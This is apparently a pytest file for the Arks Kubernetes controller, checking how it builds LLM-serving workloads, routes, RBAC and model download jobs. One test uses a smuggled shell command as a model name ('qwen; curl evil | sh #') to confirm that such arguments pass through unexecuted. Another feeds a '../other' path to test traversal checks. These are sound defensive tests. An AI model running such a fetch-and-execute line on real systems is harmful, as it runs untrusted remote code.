"""One test for each defect of Arks that lies in the objects it makes; the number is its place in the inventory."""

from __future__ import annotations

import json

import pytest

from controller.reconcile.desired.application import desired_application
from controller.reconcile.desired.disaggregated import desired_disaggregated
from controller.reconcile.desired.endpoint import API_PATHS, Backend, desired_endpoint, disaggregated_ready, discovered
from controller.reconcile.desired.model import desired_model
from controller.reconcile.desired.outcome import Desired, World
from controller.reconcile.desired.phase import judge
from controller.workloads.model import LWS, RBG_V1ALPHA1, Counts, Observed
from tests.desired.resources import (
    APPLICATION,
    DISAGGREGATED,
    ENDPOINT,
    MODEL,
    annotated,
    container,
    load,
    with_status,
)

RBG = World(frozenset({LWS, RBG_V1ALPHA1}))
LWS_ONLY = World(frozenset({LWS}))
BARE = World(frozenset())


def application(world=LWS_ONLY, model=MODEL, **changes):
    return desired_application(load(APPLICATION, **changes), load(model), world)


def pair(world=LWS_ONLY, **changes):
    return desired_disaggregated(load(DISAGGREGATED, **changes), load(MODEL), world)


def one(desired, kind, name=None):
    objects = [*desired.objects, *desired.plan.apply]
    return next(o for o in objects if o["kind"] == kind and name in (None, o["metadata"]["name"]))


def lws_leader(desired, name="app-qwen"):
    return one(desired, "LeaderWorkerSet", name)["spec"]["leaderWorkerTemplate"]["leaderTemplate"]


def ready(**replicas):
    return {role: {"replicas": n, "readyReplicas": n, "updatedReplicas": n} for role, n in replicas.items()}


def status(replicas, ready_replicas):
    return {"replicas": replicas, "readyReplicas": ready_replicas, "updatedReplicas": replicas}


def test_defect_08_two_replicas_are_routed_and_none_is_not():
    endpoint = load(ENDPOINT)
    for replicas, ready_replicas, routed in ((2, 2, True), (2, 1, True), (2, 0, False), (0, 0, False)):
        app = with_status(APPLICATION, status(replicas, ready_replicas), replicas=replicas)
        assert bool(discovered(endpoint, [app], [])) is routed


def test_defect_09_workers_of_a_group_get_no_traffic():
    for world in (LWS_ONLY, RBG):
        found = application(world, size=2, tensorParallelSize=2)
        selector = one(found, "Service")["spec"]["selector"]
        worker = found.serving.roles[0].worker["metadata"]["labels"]
        leader = found.serving.roles[0].leader["metadata"]["labels"]
        assert selector.items() <= leader.items()
        assert not selector.items() <= worker.items()
        assert not {"readinessProbe", "livenessProbe", "startupProbe"} & set(container(found.serving.roles[0].worker))


def test_defect_09_a_users_readiness_probe_stays_with_the_leader():
    probe = {"httpGet": {"path": "/own", "port": 8080}}
    found = application(size=2, tensorParallelSize=2, instanceSpec={"readinessProbe": probe})
    assert container(found.serving.roles[0].leader)["readinessProbe"]["httpGet"]["path"] == "/own"
    assert "readinessProbe" not in container(found.serving.roles[0].worker)


@pytest.mark.parametrize("given", [None, [], [{"path": {"type": "PathPrefix", "value": "/"}}], [{}]])
def test_defect_10_the_default_match_reaches_every_openai_path_and_loses_to_no_reserved_route(given):
    route = desired_endpoint(load(ENDPOINT, matchConfigs=given), ()).route
    (rule,) = route["spec"]["rules"]
    paths = {match["path"]["value"] for match in rule["matches"]}
    assert paths == set(API_PATHS)
    assert {"/v1/chat/completions", "/v1/completions", "/v1/embeddings", "/v1/responses", "/v1/rerank"} <= paths
    assert "/" not in paths
    assert len(rule["matches"]) <= 64


def test_defect_12_a_pipeline_is_routed_by_its_scarcer_half_and_withdrawn_with_its_router():
    app = with_status(DISAGGREGATED, ready(router=1, prefill=3, decode=2))
    assert disaggregated_ready(app) == 2
    assert disaggregated_ready(with_status(DISAGGREGATED, ready(router=0, prefill=3, decode=2))) == 0
    assert disaggregated_ready(with_status(DISAGGREGATED, ready(router=1, prefill=3, decode=0))) == 0
    assert disaggregated_ready(load(DISAGGREGATED)) == 0


def test_defect_13_running_means_serving():
    found = application(replicas=2)
    created = judge(found, {"inference": Counts(2, 0, 2)}, {"inference": 2})
    assert created.phase == "Creating"
    assert [item.status for item in created.conditions[:3]] == ["True", "True", "False"]
    serving = judge(found, {"inference": Counts(2, 1, 2)}, {"inference": 2})
    assert serving.phase == "Running"
    assert "1/2" in serving.conditions[2].message


def test_defect_20_a_claim_without_a_name_is_the_models_everywhere():
    nameless = MODEL.replace("      name: qwen-claim\n", "")
    assert "qwen-claim" not in nameless
    found = application(model=nameless)
    assert lws_leader(found)["spec"]["volumes"][0]["persistentVolumeClaim"]["claimName"] == "qwen-7b"
    model = desired_model(load(nameless), environment={})
    assert model.claim["metadata"]["name"] == "qwen-7b"
    volume = model.job["spec"]["template"]["spec"]["volumes"][0]
    assert volume["persistentVolumeClaim"]["claimName"] == "qwen-7b"


def test_defect_20_a_model_without_storage_is_a_condition_and_no_crash():
    (problem,) = desired_model(load(MODEL, storage=None), environment={}).problems
    assert (problem.reason, problem.field, problem.blocking) == ("CreateFailed", "spec.storage", True)
    app = desired_application(load(APPLICATION), load(MODEL, storage=None), LWS_ONLY)
    assert app.blocked.field == "spec.storage"


@pytest.mark.parametrize("key", ["int32", "port"])
def test_defect_21_the_routers_port_reaches_everything_that_needs_it(key):
    found = pair(router={key: 9000})
    router = container(one(found, "Deployment", "pd-scheduler")["spec"]["template"])
    assert router["command"][router["command"].index("--port") + 1] == "9000"
    assert router["readinessProbe"]["httpGet"]["port"] == 9000
    assert router["ports"][0]["containerPort"] == 9000
    port = one(found, "Service")["spec"]["ports"][0]
    assert (port["port"], port["targetPort"]) == (8080, 9000)
    route = desired_endpoint(load(ENDPOINT), (Backend("pd", 1),)).route
    assert route["spec"]["rules"][0]["backendRefs"][0]["port"] == 8080


def test_defect_22_the_route_is_owned_and_a_foreign_one_is_left_alone():
    endpoint = load(ENDPOINT)
    route = desired_endpoint(endpoint, (), None).route
    assert route["metadata"]["ownerReferences"][0]["uid"] == "endpoint-uid"
    foreign = {
        "metadata": {"name": "qwen-7b"},
        "spec": {"rules": [{"matches": [{"path": {"type": "PathPrefix", "value": "/shop"}}]}]},
    }
    found = desired_endpoint(endpoint, (), foreign)
    assert found.route is None
    assert found.problems[0].reason == "RouteConflict"
    other = {"metadata": {"name": "qwen-7b", "ownerReferences": [{"uid": "x"}]}, "spec": route["spec"]}
    assert desired_endpoint(endpoint, (), other).route is None
    arks = {"metadata": {"name": "qwen-7b"}, "spec": route["spec"]}
    assert desired_endpoint(endpoint, (), arks).route is not None
    assert desired_endpoint(endpoint, (), route).route is not None


def test_defect_22_more_than_sixteen_backends_are_cut_by_weight_and_named():
    backends = tuple(Backend(f"app-{index:02}", 100 - index) for index in range(20))
    own = [{"name": "mine", "port": 80}]
    found = desired_endpoint(load(ENDPOINT, routeConfigs=own), backends)
    assert len(found.routes) == 16
    assert found.routes[0]["name"] == "mine"
    (problem,) = found.problems
    assert not problem.blocking
    assert "app-19" in problem.message
    assert "app-14" not in problem.message


def test_defect_23_the_routers_permissions_are_the_applications_own():
    found = pair()
    for kind in ("ServiceAccount", "Role", "RoleBinding"):
        item = one(found, kind)
        assert item["metadata"]["name"] == "arks-router-pd"
        assert item["metadata"]["ownerReferences"][0]["uid"] == "pd-uid"
    assert one(found, "Role")["rules"] == [
        {"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list", "watch"]}
    ]
    own = pair(router={"instanceSpec": {"serviceAccountName": "mine"}})
    assert not [item for item in own.objects if item["kind"] in ("Role", "RoleBinding", "ServiceAccount")]
    assert one(own, "Deployment")["spec"]["template"]["spec"]["serviceAccountName"] == "mine"


def test_defect_23_no_selector_of_one_application_covers_anothers_pods():
    for served in ({LWS}, set()):
        found = pair(World(frozenset(served)))
        deployments = [item for item in found.plan.apply if item["kind"] == "Deployment"]
        templates = [item["spec"]["template"]["metadata"]["labels"] for item in deployments]
        sets = [item["spec"]["leaderWorkerTemplate"] for item in found.plan.apply if item["kind"] == "LeaderWorkerSet"]
        templates += [
            item[part]["metadata"]["labels"] for item in sets for part in ("leaderTemplate", "workerTemplate")
        ]
        for index, item in enumerate(deployments):
            selector = item["spec"]["selector"]["matchLabels"].items()
            assert [selector <= labels.items() for labels in templates] == [i == index for i in range(len(templates))]


def test_defect_25_json_and_hostile_arguments_reach_the_engine_as_they_are():
    config = json.dumps({"kv_connector": "X", "nested": {"a": [1, "b c"]}})
    hostile = "qwen; curl evil | sh #"
    found = application(runtimeCommonArgs=["--kv-transfer-config", config, "--served-model-name", hostile])
    command = container(lws_leader(found))["command"]
    assert command[0] == "vllm"
    assert command[-3:] == [config, "--served-model-name", hostile]
    assert command.count("--served-model-name") == 1


def test_defect_28_lifecycle_and_every_other_field_of_the_instance_reach_the_pods():
    everything = {
        "lifecycle": {"preStop": {"exec": {"command": ["drain"]}}},
        "startupProbe": {"tcpSocket": {"port": 8080}},
        "securityContext": {"runAsNonRoot": True},
        "podSecurityContext": {"fsGroup": 7},
        "initContainers": [{"name": "warm", "image": "busybox"}],
        "hostIPC": True,
        "hostNetwork": True,
        "enableServiceLinks": True,
        "priorityClassName": "high",
        "topologySpreadConstraints": [
            {"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"},
        ],
        "labels": {"team": "a"},
        "annotations": {"note": "x"},
        "env": [{"name": "A", "value": "1"}],
        "volumes": [{"name": "v", "emptyDir": {}}],
        "volumeMounts": [{"name": "v", "mountPath": "/v"}],
        "resources": {"limits": {"nvidia.com/gpu": "2"}},
    }
    leader = lws_leader(application(instanceSpec=everything))
    job = desired_model(load(MODEL, instanceSpec=everything), environment={}).job["spec"]["template"]
    for template in (leader, job):
        spec, main = template["spec"], container(template)
        assert main["lifecycle"]["preStop"] == {"exec": {"command": ["drain"]}}
        assert main["startupProbe"] == {"tcpSocket": {"port": 8080}}
        assert main["securityContext"] == {"runAsNonRoot": True}
        assert main["resources"]["limits"] == {"nvidia.com/gpu": "2"}
        assert {"name": "A", "value": "1"} in main["env"]
        assert {"name": "v", "mountPath": "/v"} in main["volumeMounts"]
        assert {"name": "v", "emptyDir": {}} in spec["volumes"]
        assert spec["securityContext"] == {"fsGroup": 7}
        assert spec["initContainers"][0]["name"] == "warm"
        assert (spec["hostIPC"], spec["hostNetwork"], spec["priorityClassName"]) == (True, True, "high")
        assert spec["enableServiceLinks"] is True
        assert spec["topologySpreadConstraints"][0]["topologyKey"] == "zone"
        assert template["metadata"]["labels"]["team"] == "a"
        assert template["metadata"]["annotations"]["note"] == "x"


def test_a_service_named_vllm_sets_no_variable_of_vllms():
    """The kubelet would make VLLM_PORT=tcp://... of it, on which vLLM ends."""
    assert lws_leader(application())["spec"]["enableServiceLinks"] is False


@pytest.mark.parametrize(
    "given",
    [
        None,
        [],
        [{}],
        [{"path": {"value": "/v1"}}, {"method": "POST"}],
        [{"headers": [{"name": "Model", "value": "other"}, {"name": "x", "value": "y"}]}],
    ],
)
def test_defect_30_no_match_is_ever_without_tenant_and_model(given):
    route = desired_endpoint(load(ENDPOINT, matchConfigs=given), ()).route
    for rule in route["spec"]["rules"]:
        assert rule["matches"]
        for match in rule["matches"]:
            named = [header["name"].lower() for header in match["headers"]]
            assert named.count("namespace") == named.count("model") == 1
            values = {header["name"]: header["value"] for header in match["headers"]}
            assert (values["namespace"], values["model"]) == ("team-a", "qwen-7b")


def test_defect_30_a_match_with_too_many_headers_is_a_condition():
    headers = [{"name": f"x-{index}", "value": "y"} for index in range(15)]
    found = desired_endpoint(load(ENDPOINT, matchConfigs=[{"headers": headers}]), ())
    assert found.route is None
    assert found.problems[0].field == "spec.matchConfigs[0].headers"


@pytest.mark.parametrize(
    ("model_status", "phase", "reason"),
    [
        ({"phase": "ModelLoading"}, "Loading", "ModelLoading"),
        ({"phase": "Failed"}, "Failed", "ModelLoadFailed"),
        (None, "Failed", "ModelNotExist"),
    ],
)
def test_defect_31_a_model_that_is_not_ready_is_never_mounted(model_status, phase, reason):
    model = with_status(MODEL, model_status) if model_status else None
    found = desired_application(load(APPLICATION), model, LWS_ONLY)
    assert not found.objects
    assert not found.plan.apply
    verdict = judge(found, {}, {"inference": 1})
    assert (verdict.phase, verdict.conditions[1].reason) == (phase, reason)
    assert verdict.conditions[1].type == "Loaded"


def test_defect_13_a_pipeline_without_one_of_its_halves_does_not_serve():
    counts = {"scheduler": Counts(1, 1, 1), "decode": Counts(2, 2, 2)}
    verdict = judge(Desired(), counts, {"scheduler": 1, "prefill": 0, "decode": 2})
    ready = next(item for item in verdict.conditions if item.type == "Ready")
    assert (ready.status, ready.reason) == ("False", "ScaledToZero")
    assert "prefill" in ready.message


def test_defect_31_a_status_of_an_older_spec_is_no_word_on_the_newest():
    """Its weights may lie where nothing has been loaded yet."""
    for seen, blocked in ((1, True), (2, False), (None, False)):  # Arks' operator wrote no generation
        model = with_status(MODEL, {"phase": "Ready", "observedGeneration": seen})
        model.metadata.generation = 2
        assert bool(desired_application(load(APPLICATION), model, LWS_ONLY).blocked) is blocked


def test_defect_31_what_serves_goes_on_while_a_new_model_loads():
    model = with_status(MODEL, {"phase": "ModelLoading"})
    found = desired_application(load(APPLICATION), model, LWS_ONLY)
    verdict = judge(found, {"inference": Counts(1, 1, 0)}, {"inference": 1})
    assert verdict.phase == "Running"
    assert "not ready yet" in verdict.conditions[2].message


def test_defect_03_routes_have_no_request_timeout():
    assert desired_endpoint(load(ENDPOINT), ()).route["spec"]["rules"][0]["timeouts"] == {"request": "0s"}


def test_an_application_that_the_user_routes_to_is_not_routed_twice():
    own = [{"name": "arks-application-app-qwen", "port": 8080, "weight": 9}]
    found = desired_endpoint(load(ENDPOINT, routeConfigs=own), (Backend("app-qwen", 5),))
    assert [(item["name"], item["weight"]) for item in found.routes] == [("arks-application-app-qwen", 9)]


def test_an_unknown_option_is_a_condition_and_leaves_what_runs_alone():
    found = application(runtimeCommonArgs=["--no-such-flag"])
    assert not found.plan.apply
    verdict = judge(found, {}, {"inference": 1})
    assert verdict.conditions[0][:3] == ("Precheck", "False", "UnknownEngineOption")
    allowed = annotated(APPLICATION, {"arks.ai/allow-unknown-options": "true"}, runtimeCommonArgs=["--no-such-flag"])
    assert desired_application(allowed, load(MODEL), LWS_ONLY).plan.apply


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"runtime": "trt"}, "RuntimeNotSupport"),
        ({"size": 2, "tensorParallelSize": 3}, "ParallelismDoesNotFillGroup"),
    ],
)
def test_what_cannot_run_is_said_in_a_condition_that_names_the_field(changes, reason):
    found = application(**changes)
    assert found.blocked.reason == reason
    assert found.blocked.field.startswith("spec.")
    assert not found.objects


def test_a_group_on_a_cluster_without_group_apis_is_a_condition():
    assert application(BARE, size=2, tensorParallelSize=2).blocked.reason == "WorkloadApiMissing"
    single = application(BARE)
    verdict = judge(single, {"inference": Counts(1, 1, 1)}, {"inference": 1})
    assert verdict.conditions[-1][:3] == ("Degraded", "True", "WorkloadApiMissing")


def test_a_workload_that_ran_it_before_goes_only_when_the_new_one_serves():
    owner = [{"uid": "app-uid"}]
    old = {
        "apiVersion": "workloads.x-k8s.io/v1alpha1",
        "kind": "RoleBasedGroup",
        "metadata": {"name": "app-qwen-0", "ownerReferences": owner},
    }
    app = annotated(APPLICATION, {"arks.ai/workload": "lws"})
    waiting = desired_application(app, load(MODEL), World(RBG.served, Observed((old,))))
    assert not waiting.plan.delete
    new = {
        "apiVersion": "leaderworkerset.x-k8s.io/v1",
        "kind": "LeaderWorkerSet",
        "metadata": {"name": "app-qwen", "ownerReferences": owner},
        "status": {"replicas": 1, "readyReplicas": 1},
    }
    serving = desired_application(app, load(MODEL), World(RBG.served, Observed((old, new))))
    assert [(item.kind, item.name) for item in serving.plan.delete] == [("RoleBasedGroup", "app-qwen-0")]


def test_adapters_come_from_their_own_models():
    adapter = MODEL.replace("name: qwen-7b, namespace", "name: sql, namespace").replace("qwen-claim", "sql-claim")
    changes = {"loraAdapters": [{"name": "qwen-sql", "model": {"name": "sql"}}]}
    found = desired_application(load(APPLICATION, **changes), load(MODEL), LWS_ONLY, adapters={"sql": load(adapter)})
    leader = lws_leader(found)
    assert "qwen-sql=/adapters/0/models/team-a/sql" in container(leader)["command"]
    assert {"name": "adapter-0", "mountPath": "/adapters/0", "readOnly": True} in container(leader)["volumeMounts"]
    assert leader["spec"]["volumes"][1]["persistentVolumeClaim"]["claimName"] == "sql-claim"
    missing = desired_application(load(APPLICATION, **changes), load(MODEL), LWS_ONLY)
    assert missing.blocked.field == "spec.loraAdapters[0].model.name"


def test_a_command_override_keeps_the_generated_command_within_reach():
    found = pair(prefill={"leaderCommandOverride": ["/opt/start.sh"]})
    main = container(lws_leader(found, "pd-prefill"))
    assert main["command"] == ["/opt/start.sh"]
    (variable,) = [item for item in main["env"] if item["name"] == "ARKS_LEADER_COMMAND"]
    assert "--disaggregation-mode prefill" in variable["value"]


def test_weights_follow_the_policy():
    app = with_status(APPLICATION, status(3, 3))
    assert discovered(load(ENDPOINT), [app], [])[0].weight == 5
    assert discovered(load(ENDPOINT, weightPolicy="capacity"), [app], [])[0].weight == 15
    elsewhere = load(APPLICATION.replace("team-a", "team-b"))
    assert not discovered(load(ENDPOINT), [elsewhere], [])


def test_a_changed_request_replaces_the_job_and_an_unchanged_one_does_not():
    first = desired_model(load(MODEL), environment={})
    assert desired_model(load(MODEL), environment={}, job=first.job).delete == ()
    changed = load(MODEL, source={"huggingface": {"revision": "v2"}})
    again = desired_model(changed, environment={}, job=first.job)
    assert again.job is None
    assert again.delete[0].name == "arks-worker-qwen-7b"


def test_a_model_that_is_in_its_storage_already_needs_no_job():
    for source in (None, {"huggingface": None}):
        found = desired_model(load(MODEL, source=source), environment={})
        assert found.job is None
        assert found.claim is not None
    assert desired_model(load(MODEL), environment={}, claim_exists=True).claim is None


def test_secrets_are_no_arguments():
    changed = load(MODEL, source={"huggingface": {"tokenSecretRef": {"name": "hf"}}})
    main = container(desired_model(changed, environment={}).job["spec"]["template"])
    assert "hf" not in json.loads(main["args"][0])["source"]
    assert {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "hf", "key": "HF_TOKEN"}}} in main["env"]


def test_temporary_credentials_have_a_session_token_and_lasting_ones_need_none():
    changed = load(MODEL, source={"huggingface": None, "s3": {"bucket": "b-1", "credentialsSecretRef": {"name": "s"}}})
    main = container(desired_model(changed, environment={}).job["spec"]["template"])
    keys = {each["name"]: each["valueFrom"]["secretKeyRef"] for each in main["env"] if "valueFrom" in each}
    assert [name for name, key in keys.items() if not key.get("optional")] == [
        "AWS_ACCESS_KEY_ID",
        "AWS_SECRET_ACCESS_KEY",
    ]
    assert keys["AWS_SESSION_TOKEN"] == {"name": "s", "key": "AWS_SESSION_TOKEN", "optional": True}


def test_paths_cannot_leave_their_volume():
    assert desired_model(load(MODEL, storage={"subPath": "../other"}), environment={}).problems[0].field == (
        "spec.storage.subPath"
    )


def test_names_that_no_pod_could_bear_are_a_condition_and_names_that_run_are_not():
    def named(name, world):
        app = load(APPLICATION.replace("name: app-qwen", f"name: {name}"))
        return desired_application(app, load(MODEL), world).blocked

    assert named("a" * 41, RBG).reason == "InvalidName"
    assert named("a" * 41, LWS_ONLY) is None
    assert named("7b", LWS_ONLY).reason == "InvalidName"
    assert named("7b", BARE) is None


def test_a_dynamo_frontend_beside_its_worker_shares_the_users_environment():
    env = {"env": [{"name": "DYN_NAMESPACE", "value": "mine"}]}
    worker, front = lws_leader(application(runtime="dynamo", instanceSpec=env))["spec"]["containers"]
    for main in (worker, front):
        assert [item for item in main["env"] if item["name"] == "DYN_NAMESPACE"] == env["env"]
    assert {"name": "DYN_FILE_KV", "value": "/run/arks-dynamo"} in front["env"]
    assert front["ports"][0]["containerPort"] == 8080
